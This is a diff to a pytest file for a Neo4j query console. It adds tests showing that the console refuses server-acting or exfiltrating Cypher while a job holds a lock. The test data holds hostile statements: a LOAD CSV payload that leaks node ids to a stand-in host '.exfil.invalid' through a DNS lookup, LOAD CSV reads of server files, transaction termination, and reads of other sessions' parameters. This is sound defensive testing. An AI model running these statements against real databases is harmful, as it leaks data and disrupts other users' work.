@@ -11,6 +11,7 @@ import re
 from datetime import date
 
 import pytest
+from neo4j.exceptions import Neo4jError
 
 from graph import app_queries
 from graph.cypher import named
@@ -614,7 +615,6 @@ WRITES = {
     "merge": "MERGE (f:Firm {id: 'F1'}) SET f.name = 'hijacked'",
     "set": "MATCH (r:Ring {id: 'RING-1'}) SET r.status = 'dismissed'",
     "delete": "MATCH (b:Bid) DETACH DELETE b",
-    "load_csv": "LOAD CSV FROM 'file:///firms.csv' AS row CREATE (:Intruder {id: row[0]})",
     "write_procedure": "CALL db.createLabel('Intruder')",
 }
 
@@ -634,6 +634,72 @@ def test_console_refuses_writes_and_the_database_is_unchanged(market_db, stateme
     [entry] = access_entries(access_log)  # the attempt is on record, with the statement as typed
     assert (entry["user"], entry["mode"], entry["query"], entry["outcome"]) == (USER, "free", statement, "refused")
     assert entry["rows"] is None and entry["error"]
+
+
+SERVER_COMMANDS = {
+    "terminate_the_job_lock": "SHOW TRANSACTIONS YIELD transactionId, metaData WHERE metaData.iron_cage_job_lock "
+                              "IS NOT NULL TERMINATE TRANSACTIONS transactionId YIELD message RETURN message",
+    "terminate_by_id": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
+    "show_transactions": "SHOW TRANSACTIONS YIELD currentQuery, parameters RETURN currentQuery, parameters",
+    "clear_caches": "CALL db.clearQueryCaches()",
+    "load_csv_write": "LOAD CSV FROM 'file:///firms.csv' AS row CREATE (:Intruder {id: row[0]})",
+    "load_csv_dns": "MATCH (f:Firm) WITH f LIMIT 1 CALL { WITH f LOAD CSV FROM 'http://' + f.id + '.exfil.invalid/' "
+                    "AS r RETURN r } RETURN r",
+    "settings": "show settings yield name, value return name, value",
+}
+
+
+@pytest.mark.parametrize("statement", list(SERVER_COMMANDS.values()), ids=list(SERVER_COMMANDS))
+def test_console_refuses_what_acts_on_the_server_while_a_job_holds_the_lock(market_db, statement, access_log):
+    """A read transaction does not stop TERMINATE TRANSACTIONS (it ended a load's lock transaction,
+    and a detector run on another host then ran inside the load), db.clearQueryCaches(), SHOW
+    TRANSACTIONS (other sessions' parameters) or LOAD CSV (the server resolves any host name in a
+    URL: values sent out in a DNS look-up). The database's plan names them; the console refuses
+    them before they run, and the job keeps its lock."""
+    from graph.lock import server_lock
+
+    with server_lock(market_db, "a scheduled load"):
+        at = app_session("views/console.py")
+        at.radio(key="console_mode").set_value("Free Cypher").run()
+        at.text_area(key="console_text").input(statement)
+        at.button(key="console_run").click().run()
+        no_exception(at)
+        assert any("Refused before it ran" in e.value for e in at.error), [e.value for e in at.error]
+        [holder] = market_db.read("job_lock_holder", lock="database")
+        assert holder["meta"]["job"] == "a scheduled load"
+    [entry] = access_entries(access_log)
+    assert (entry["query"], entry["outcome"]) == (statement, "refused")
+
+
+def test_console_keeps_reads_of_the_schema_search_and_plans():
+    """Near-misses of the plan check: reading procedures, SHOW INDEXES, full-text search, EXPLAIN
+    and PROFILE, query options first. (Pure: the plans as the database gives them.)"""
+    from graph.db import console_refusal
+
+    def plan(*operators: tuple[str, str]) -> dict:
+        node: dict = {}
+        for operator, details in reversed(operators):
+            node = {"operatorType": f"{operator}@neo4j", "args": {"Details": details},
+                    "children": [node] if node else []}
+        return node
+
+    assert console_refusal("r", plan(("ProduceResults", "label"), ("ProcedureCall", "db.labels() :: (label)"))) is None
+    assert console_refusal("r", plan(("ProduceResults", "name"), ("ShowIndexes", "allIndexes"))) is None
+    assert console_refusal("r", plan(("ProcedureCall", "db.index.fulltext.queryNodes(...)"))) is None
+    assert "db.clearQueryCaches" in console_refusal("r", plan(("ProcedureCall", "db.clearQueryCaches() :: x")))
+    assert console_refusal("s", plan(("ProcedureCall", "dbms.components() :: x"))) is not None
+    assert console_refusal("w", plan(("Create", "(n:X)"))) is None  # the READ transaction refuses it itself
+    assert "LoadCSV" in console_refusal("rw", plan(("Create", "x"), ("LoadCSV", "row")))
+
+
+def test_console_runs_explain_profile_and_query_options(market_db):
+    for statement in ("CALL db.labels()", "SHOW INDEXES YIELD name RETURN name",
+                      "EXPLAIN MATCH (f:Firm) RETURN f", "PROFILE MATCH (f:Firm) RETURN count(f) AS n",
+                      "// a comment\nPROFILE MATCH (f:Firm) RETURN count(f) AS n",
+                      "CYPHER 5 MATCH (f:Firm) RETURN count(f) AS n",
+                      "CALL db.index.fulltext.queryNodes('entity_search', 'Alpha') YIELD node RETURN node.id AS id"):
+        keys, _, _ = market_db.run_read_only(statement)
+        assert keys, statement
 
 
 def test_console_free_cypher_takes_its_parameters_in_boxes(market_db, access_log):
@@ -676,7 +742,8 @@ def test_console_runs_only_what_the_access_log_can_record_whole_and_shows_errors
 
 def test_console_reads_cannot_make_the_server_fetch_a_url_or_a_file(market_db, access_log):
     """LOAD CSV is a read, so a read transaction alone would let the console send record values to any
-    address (or read the server's files); the local server's configuration blocks both."""
+    address (or read the server's files): the console refuses it from the database's plan, and, a
+    second layer, the local server's configuration blocks both for any client."""
     import http.server
     import threading
 
@@ -703,12 +770,16 @@ def test_console_reads_cannot_make_the_server_fetch_a_url_or_a_file(market_db, a
             at.text_area(key="console_text").input(query)
             at.button(key="console_run").click().run()
             no_exception(at)
-            assert any("The query failed" in e.value for e in at.error), [e.value for e in at.error]
+            assert any("Refused before it ran" in e.value and "LoadCSV" in e.value for e in at.error), \
+                [e.value for e in at.error]
             assert not at.dataframe
+            with market_db.driver.session(database=market_db.settings.database, default_access_mode="READ") as session:
+                with pytest.raises(Neo4jError):  # the server's own block, for a client without the console's check
+                    session.run(query).consume()
     finally:
         server.shutdown()
     assert fetched == []
-    assert [e["outcome"] for e in access_entries(access_log)] == ["failed", "failed"]
+    assert [e["outcome"] for e in access_entries(access_log)] == ["refused", "refused"]
 
 
 def test_console_shows_nothing_when_the_access_log_cannot_be_written(market_db, tmp_path, monkeypatch):
